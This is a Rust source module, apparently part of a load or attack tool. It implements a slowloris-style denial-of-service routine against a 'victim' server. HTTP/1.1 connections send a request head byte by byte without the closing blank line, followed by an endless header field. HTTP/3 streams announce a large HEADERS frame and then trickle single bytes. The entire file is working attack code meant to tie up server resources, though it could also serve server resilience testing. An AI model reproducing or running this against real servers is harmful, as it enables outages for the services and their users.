//! Heads of requests that arrive a byte at a time.

use std::io;

use tokio::io::AsyncWriteExt;

use super::Force;
use crate::wire::{H3_HEADERS, Head, h3_frame_head};

/// Declared length in bytes of the slow HTTP/3 HEADERS frame.
const ANNOUNCED: u64 = 10_000;

pub(super) async fn heads(force: &Force, number: usize) -> io::Result<()> {
    if number.is_multiple_of(2) {
        http1(force, number).await
    } else {
        http3(force, number).await
    }
}

async fn http1(force: &Force, number: usize) -> io::Result<()> {
    let stream = force.tls(number, b"http/1.1").await?;
    let _open = force.tally.open();
    let (reading, mut writing) = tokio::io::split(stream);
    let sending = async {
        let text = Head::get(force.victim.title.as_str()).http1();
        // Without the empty line, followed by one endless field.
        for byte in text[..text.len() - 2].iter().chain(std::iter::repeat(&b'x')) {
            force.act().await;
            writing.write_all(&[*byte]).await?;
            writing.flush().await?;
        }
        Ok(())
    };
    tokio::select! {
        biased;
        ended = force.drain(reading) => ended,
        failed = sending => failed,
    }
}

async fn http3(force: &Force, number: usize) -> io::Result<()> {
    let connection = force.quic(number, |_| {}).await?;
    let _open = force.tally.open();
    let (mut sending, _response) = connection.open_bi().await?;
    sending.write_all(&h3_frame_head(H3_HEADERS, ANNOUNCED)).await?;
    loop {
        force.act().await;
        // Ends once the server has reset the stream.
        sending.write_all(b"x").await?;
    }
}
